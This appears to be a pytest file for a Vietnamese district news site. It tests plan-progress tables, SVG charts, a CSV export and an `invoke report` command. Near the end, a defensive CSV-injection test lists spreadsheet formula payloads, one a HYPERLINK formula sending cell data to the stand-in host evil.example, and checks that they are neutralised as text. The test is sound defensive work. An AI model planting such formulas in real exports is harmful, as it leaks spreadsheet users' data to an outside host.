"""The plan's progress: one count of published items against the plan's targets, shown the
same on the page (tables and SVG charts), in its CSV file and by `invoke report`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup
from conftest import SiteMaker

from devtools import ROOT
from newsdesk import csv_file
from newsdesk.content import progress, vocabulary
from newsdesk.editors import report as plan_report
from newsdesk.content.progress import Entry

REAL = (ROOT / "data" / "vocabulary.toml").read_text(encoding="utf-8")
# A second plan over three quarters, appended to the real vocabulary: the fixture counts on it.
TEST_PLAN = """
[[plans]]
number = "15/KH-UBND"
title = "Kế hoạch thử"
date = 2023-06-20
start = 2023-07-01
end = 2024-03-31
[plans.targets]
tin-bai = 4
video = 2
truyen-thanh = 5
hoi-nghi = 3
[plans.audiences]
ho-ngheo = 2
[plans.copies]
to-roi = 1000
"""
TODAY = "2024-02-15"
PAGE = "tien-do/15-kh-ubnd-2023/"
CSV = "tien-do/15-kh-ubnd-2023/tien-do-15-kh-ubnd-2023.csv"
FAST = {"PRINT_PRODUCTS_PDF": False, "SEARCH_INDEX": False}

BY_TYPE = {"Tin bài": ["2", "4", "50"], "Infographic": ["0", "", ""],
           "Video clip": ["1", "2", "50"], "Bài truyền thanh": ["0", "5", "0"],
           "Hội nghị chuyên đề": ["1", "3", "33"], "Cẩm nang": ["2", "", ""],
           "Tờ rơi": ["2", "", ""], "Tờ rơi: số bản in": ["750", "1000", "75"]}
BY_AUDIENCE = {"Hộ nghèo, cận nghèo và hộ mới thoát nghèo": ["1", "2", "50"],
               "Cán bộ giảm nghèo xã": ["0", "1", "0"], "Trưởng ấp": ["1", "1", "100"]}
BY_COMMUNE = {"Toàn huyện": "3", "xã Đồng Nơ": "2", "xã Tân Hưng": "2", "xã Thanh An": "1",
              "xã Phước An": "1", "xã An Khương": "1", "thị trấn Tân Khai": "0",
              "xã Minh Đức": "0"}
BY_QUARTER = {"Quý III/2023": "1", "Quý IV/2023": "5", "Quý I/2024": "2"}


def write_items(site: SiteMaker) -> None:
    """Known items: 8 count; a draft, a withdrawn, a future, an early item and a conference
    not yet held do not."""
    item = site.item
    item("dong-no/a.md", date="2023-08-10 08:00", communes="Tân Hưng, Thanh An")
    item("dong-no/b.md", date="2023-11-05 08:00", status="hidden")
    item("dong-no/c.md", date="2023-11-06 08:00", status="draft")
    item("tan-hung/d.md", category="Tân Hưng", date="2023-11-07 08:00", status="withdrawn")
    item("tan-hung/e.md", category="Tân Hưng", date="2024-03-01 08:00")
    item("toan-huyen/f.md", category="Toàn huyện", date="2023-05-01 08:00")
    item("tan-hung/g.md", category="Tân Hưng", date="2024-01-10 08:00", type="video",
         video="https://youtu.be/dQw4w9WgXcQ")
    item("phuoc-an/h.md", category="Phước An", date="2023-09-25 08:00", type="hoi-nghi",
         start="2023-10-03 08:00")
    item("phuoc-an/i.md", category="Phước An", date="2024-02-01 08:00", type="hoi-nghi",
         start="2024-02-20 08:00")
    item("toan-huyen/j.md", category="Toàn huyện", date="2023-12-01 08:00", type="cam-nang",
         audience="ho-ngheo")
    item("toan-huyen/k.md", category="Toàn huyện", date="2023-12-02 08:00", type="cam-nang",
         audience="truong-ap")
    item("an-khuong/l.md", category="An Khương", date="2023-10-10 08:00", type="to-roi",
         copies="400")
    item("toan-huyen/m.md", category="Toàn huyện", date="2024-01-05 08:00", type="to-roi",
         copies="350")
    item("toan-huyen/n.md", category="Toàn huyện", date="2024-01-06 08:00", type="to-roi",
         copies="5000", status="draft")


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("plan")
    site = SiteMaker(root)
    write_items(site)
    plans = root / "vocabulary.toml"
    plans.write_text(REAL + TEST_PLAN, encoding="utf-8")
    result = site.build(today=TODAY, VOCABULARY_PATH=str(plans), **FAST)
    assert result.result.ok, result.result.report.format()
    return result


def page_tables(page: BeautifulSoup) -> list[list[str]]:
    """The page's tables as CSV rows: caption (the section), then the row's cells."""
    rows = []
    for table in page.select("table.hq-progress__table"):
        caption = table.caption.get_text(strip=True)
        for tr in table.tbody.select("tr"):
            rows.append([caption, *(cell.get_text(strip=True) for cell in tr.select("th, td"))])
    return rows


def section(rows: list[list[str]], name: str) -> dict[str, list[str]]:
    return {row[1]: row[2:] for row in rows if row[0] == name}


def test_page_counts_every_type_audience_commune_and_quarter(built):
    rows = page_tables(built.html(PAGE))
    assert section(rows, progress.BY_TYPE) == BY_TYPE
    assert section(rows, progress.BY_AUDIENCE) == BY_AUDIENCE
    communes = section(rows, progress.BY_COMMUNE)
    assert {name: communes[name][0] for name in BY_COMMUNE} == BY_COMMUNE
    # 8 items counted, one of them in 3 places: 10 by commune, 8 by quarter.
    assert sum(int(cells[0]) for cells in communes.values()) == 10
    assert {name: cells[0] for name, cells in section(rows, progress.BY_QUARTER).items()} == \
        BY_QUARTER


def test_drafts_withdrawn_future_and_out_of_period_items_are_not_counted(built):
    rows = page_tables(built.html(PAGE))
    # 6 news items written: a and the hidden b count; the draft c, withdrawn d, future e and
    # early f do not; neither does the conference i, announced but not yet held.
    assert section(rows, progress.BY_TYPE)["Tin bài"][0] == "2"
    assert section(rows, progress.BY_TYPE)["Hội nghị chuyên đề"][0] == "1"
    assert section(rows, progress.BY_COMMUNE)["xã Tân Hưng"][0] == "2"  # a and g, not d or e


def test_leaflet_copies_are_summed_against_the_printed_target(built):
    rows = section(page_tables(built.html(PAGE)), progress.BY_TYPE)
    assert rows["Tờ rơi: số bản in"] == ["750", "1000", "75"]  # 400 + 350, not the draft's 5000
    assert rows["Tờ rơi"][0] == "2"


def test_csv_has_a_bom_parses_and_equals_the_page_table(built):
    data = (built.output / CSV).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == list(progress.COLUMNS)
    assert rows == page_tables(built.html(PAGE))
    link = built.html(PAGE).select_one(f'a[href="/{CSV}"]')
    assert link is not None and link.has_attr("download")


def test_svg_charts_have_a_title_a_description_and_the_tables_figures(built):
    page = built.html(PAGE)
    rows = page_tables(page)
    charts = page.select("main svg")
    assert len(charts) == 4
    for svg, name in zip(charts, (progress.BY_TYPE, progress.BY_AUDIENCE, progress.BY_COMMUNE,
                                  progress.BY_QUARTER)):
        assert svg["role"] == "img"
        title, desc = svg.find("title"), svg.find("desc")
        assert title.get_text(strip=True) and desc.get_text(strip=True)
        assert svg["aria-labelledby"].split() == [title["id"], desc["id"]]
        assert not svg.select("[style], style, script")
        shown = {g.select_one(".hq-chart__label").get_text(): g.select_one(
            ".hq-chart__value").get_text() for g in svg.select(".hq-chart__row")}
        table = section(rows, name)
        expected = {label: f"{cells[0]}/{cells[1]}" if cells[1] else cells[0]
                    for label, cells in table.items() if name != progress.BY_TYPE or cells[1]}
        assert shown == expected
    assert not page.select("[style], style, script:not([type=module])")


def test_home_page_and_footer_link_to_the_newest_plans_progress(built):
    home = built.html("")
    newest = "/tien-do/288-kh-ubnd-2023/"
    assert home.select_one(f'main a[href="{newest}"]') is not None
    assert built.html(PAGE).select_one(f'footer a[href="{newest}"]') is not None
    others = [a["href"] for a in built.html(PAGE).select('[aria-labelledby=ke-hoach-khac] a')]
    assert others == [newest]


def test_invoke_report_json_equals_the_csv(site):
    site.item("dong-no/a.md", date="2023-11-10 08:00", communes="Thanh An")
    site.item("toan-huyen/l.md", category="Toàn huyện", date="2023-11-12 08:00", type="to-roi",
              copies="1200")
    site.item("toan-huyen/d.md", category="Toàn huyện", date="2023-11-13 08:00", status="draft")
    built = site.build(**FAST)
    assert built.result.ok, built.result.report.format()
    csv_rows = list(csv.reader(io.StringIO(
        (built.output / "tien-do/288-kh-ubnd-2023/tien-do-288-kh-ubnd-2023.csv")
        .read_text(encoding="utf-8-sig"))))
    run = subprocess.run([sys.executable, "-m", "invoke", "report", "--plan", "288", "--format",
                          "json", "--content", str(site.content), "--today", "2026-11-26"],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    assert [report["columns"], *report["rows"]] == csv_rows
    assert report["plan"]["number"] == "288/KH-UBND"
    assert ["Loại nội dung", "Tờ rơi: số bản in", "1200", "10000", "12"] in csv_rows


def test_invoke_report_prints_a_table_and_refuses_an_unknown_plan_in_vietnamese(site):
    site.item("dong-no/a.md", date="2023-11-10 08:00")
    command = [sys.executable, "-m", "invoke", "report", "--content", str(site.content),
               "--today", "2026-11-26"]
    table = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert table.returncode == 0, table.stderr
    assert "Tiến độ Kế hoạch 288/KH-UBND" in table.stdout
    assert any(line.split()[:3] == ["Tin", "bài", "1"] for line in table.stdout.splitlines())
    unknown = subprocess.run([*command, "--plan", "999"], cwd=ROOT, capture_output=True,
                             text=True, timeout=300)
    assert unknown.returncode == 1 and "Traceback" not in unknown.stderr
    assert "Không có kế hoạch \"999\" trong data/vocabulary.toml" in unknown.stderr


def test_invoke_report_stops_on_a_content_error(site):
    site.item("dong-no/a.md", date="2023-11-10 08:00", category="Xã Không Có")
    run = subprocess.run([sys.executable, "-m", "invoke", "report", "--content",
                          str(site.content)], cwd=ROOT, capture_output=True, text=True,
                         timeout=300)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert "Không lập được báo cáo: 1 lỗi" in run.stderr


BAD_PLANS = [
    ("[plans.targets]\nphong-su = 3\n",
     "kế hoạch 9/KH-UBND: [plans.targets] phong-su: loại nội dung không có trong [[types]]"),
    ("[plans.targets]\nvideo = \"năm\"\n",
     "kế hoạch 9/KH-UBND: [plans.targets] video = 'năm' phải là một số nguyên từ 0 trở lên"),
    ("[plans.targets]\nvideo = -1\n",
     "kế hoạch 9/KH-UBND: [plans.targets] video = -1 phải là một số nguyên từ 0 trở lên"),
    ("[plans.targets]\ncam-nang = 3\n",
     "kế hoạch 9/KH-UBND: [plans.targets] cam-nang: loại cam-nang được tính theo đối tượng"),
    ("[plans.audiences]\nnong-dan = 1\n",
     "kế hoạch 9/KH-UBND: [plans.audiences] nong-dan: đối tượng đọc không có trong [audiences]."),
    ("[plans.copies]\nvideo = 100\n",
     "kế hoạch 9/KH-UBND: [plans.copies] video: loại này không có trường copies (số bản in)."),
]


def bad_plan(rest: str, start: str = "2024-01-01", end: str = "2024-12-31") -> str:
    return (f"\n[[plans]]\nnumber = \"9/KH-UBND\"\ndate = 2024-01-01\nstart = {start}\n"
            f"end = {end}\n{rest}")


@pytest.mark.parametrize("rest, message", BAD_PLANS, ids=[m.split(": ")[1].split()[0] + "-" +
                                                          m.split()[3] for _, m in BAD_PLANS])
def test_bad_plan_data_names_the_plan_and_the_key(tmp_path, rest, message):
    path = tmp_path / "vocabulary.toml"
    path.write_text(REAL + bad_plan(rest), encoding="utf-8")
    with pytest.raises(vocabulary.VocabularyError) as error:
        vocabulary.load(path)
    assert message in str(error.value)


def test_a_period_ending_before_it_starts_fails_the_build(tmp_path, site):
    path = tmp_path / "vocabulary.toml"
    path.write_text(REAL + bad_plan("", start="2024-06-01", end="2024-01-31"), encoding="utf-8")
    site.item("dong-no/a.md")
    built = site.build(VOCABULARY_PATH=str(path), **FAST)
    assert not built.result.ok
    assert [p.message for p in built.result.report.errors] == [
        "kế hoạch 9/KH-UBND: end (31/01/2024) trước start (01/06/2024): thời gian thực hiện "
        "phải kết thúc sau khi bắt đầu."]


def test_a_plan_without_number_or_with_a_wrong_date_is_refused(tmp_path):
    path = tmp_path / "vocabulary.toml"
    path.write_text(REAL + "\n[[plans]]\ntitle = \"Không số\"\n" + bad_plan("").replace(
        "date = 2024-01-01", "date = \"26/10/2023\""), encoding="utf-8")
    with pytest.raises(vocabulary.VocabularyError) as error:
        vocabulary.load(path)
    assert "một khối [[plans]] thiếu number" in str(error.value)
    assert "kế hoạch 9/KH-UBND: date phải là một ngày dạng YYYY-MM-DD" in str(error.value)


def _entry(uid: str, **fields) -> Entry:
    values = {"type": "cam-nang", "places": ("toan-huyen",), "state": "published",
              "date": dt.datetime(2023, 11, 1, 8, tzinfo=dt.timezone.utc), **fields}
    return Entry(uid=uid, **values)


def test_the_chapters_of_one_handbook_count_once_and_other_items_once_each():
    vocab = vocabulary.load()
    plan = vocab.find_plan("288")[0]
    entries = [_entry("c1", handbook="so-tay", audience="truong-ap", places=("dong-no",)),
               _entry("c2", handbook="so-tay", audience="truong-ap", places=("thanh-an",)),
               _entry("c3", handbook="so-tay", audience="truong-ap", state="draft"),
               _entry("h2", audience="ho-ngheo"), _entry("h3", audience="ho-ngheo")]
    figures = progress.count(plan, entries, vocab, dt.date(2026, 11, 26))
    rows = {(row.section, row.key): row.done for row in figures.rows}
    assert rows[(progress.BY_TYPE, "cam-nang")] == 3
    assert rows[(progress.BY_AUDIENCE, "truong-ap")] == 1
    assert rows[(progress.BY_AUDIENCE, "ho-ngheo")] == 2
    assert rows[(progress.BY_COMMUNE, "dong-no")] == rows[(progress.BY_COMMUNE, "thanh-an")] == 1
    assert progress.unit_key(entries[0]) == progress.unit_key(entries[1]) != \
        progress.unit_key(entries[3])



def test_a_handbook_in_chapter_files_counts_once_on_the_page_and_in_invoke_report(site):
    """The real build (chapters assembled into one handbook) and `invoke report` (read from
    the files) agree: three chapter files and a one-file handbook are two handbooks."""
    common = dict(category="Toàn huyện", type="cam-nang", date="2023-11-20 08:00")
    for number in (1, 2, 3):
        site.item(f"toan-huyen/so-tay/chuong-{number}.md", title=f"Chương {number}", **common,
                  handbook="Sổ tay trưởng ấp", chapter=number, audience="truong-ap")
    site.item("toan-huyen/mot-tep.md", title="Cẩm nang một tệp", **common, audience="ho-ngheo")
    built = site.build(**FAST, HANDBOOK_PDF=False)
    assert built.result.ok, built.result.report.format()
    rows = page_tables(built.html("tien-do/288-kh-ubnd-2023/"))
    assert section(rows, progress.BY_TYPE)["Cẩm nang"][0] == "2"
    assert section(rows, progress.BY_AUDIENCE)["Trưởng ấp"][0] == "1"
    run = subprocess.run([sys.executable, "-m", "invoke", "report", "--plan", "288", "--format",
                          "json", "--content", str(site.content), "--today", "2026-11-26"],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert [row[1:] for row in rows] == [row[1:] for row in json.loads(run.stdout)["rows"]]

CHART_TEXT = """() => [...document.querySelectorAll('main svg text')].map(t => {
  const box = t.getBBox(), svg = t.ownerSVGElement;
  return {text: t.textContent, right: box.x + box.width, width: svg.viewBox.baseVal.width,
          pixels: t.getBoundingClientRect().height};
})"""


def test_charts_are_readable_on_a_360_px_phone(built, chromium):
    """Every label and figure inside its chart, and at least 12 CSS px high."""
    from devtools import quality

    with quality.served(built.output.resolve()) as origin:
        page = chromium.new_page(viewport={"width": 360, "height": 800})
        page.goto(origin + PAGE)
        page.evaluate("document.fonts.ready")
        texts = page.evaluate(CHART_TEXT)
        page.close()
    assert texts
    assert [t["text"] for t in texts if t["right"] > t["width"]] == []
    assert [t["text"] for t in texts if t["pixels"] < 12] == []


# Cells Excel would run as a formula (OWASP's list): each must come out as text.
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "@SUM(1+1)", "+1+1", "-1+2",
            "\tđộc hại", "\rđộc hại"]


def test_csv_cells_excel_would_run_get_a_quote_and_numbers_stay_numbers():
    rows = [["Bảng", *FORMULAS], ["Địa bàn", "xã Đồng Nơ", "-5", "12", "+3", "1,5", ""]]
    written = csv_file.to_csv(rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(written))) == [
        ["Bảng", *("'" + formula for formula in FORMULAS)],
        ["Địa bàn", "xã Đồng Nơ", "-5", "12", "+3", "1,5", ""]]
    assert written.startswith('"Bảng","\'=HYPERLINK(')  # every cell quoted


def test_a_vocabulary_name_written_as_a_formula_is_text_in_the_csv_and_the_report(site):
    formula = FORMULAS[0]
    plans = site.root / "vocabulary.toml"
    plans.write_text(REAL.replace('name = "Tin bài"\nplural = "Tin bài"',
                                  f"name = '{formula}'\nplural = '{formula}'", 1),
                     encoding="utf-8")
    site.item("dong-no/a.md", date="2023-11-10 08:00")
    built = site.build(VOCABULARY_PATH=str(plans), **FAST)
    assert built.result.ok, built.result.report.format()
    written = (built.output / "tien-do/288-kh-ubnd-2023/tien-do-288-kh-ubnd-2023.csv"
               ).read_text(encoding="utf-8-sig")
    reported = plan_report.report_text(overrides={"PATH": str(site.content),
                                                  "VOCABULARY_PATH": str(plans)},
                                       plan="288", fmt="csv")
    for text in (written, reported):
        rows = list(csv.reader(io.StringIO(text)))
        assert ["Loại nội dung", "'" + formula] == rows[1][:2]
        assert not any(cell.startswith(csv_file.FORMULA_START)
                       for row in rows for cell in row)
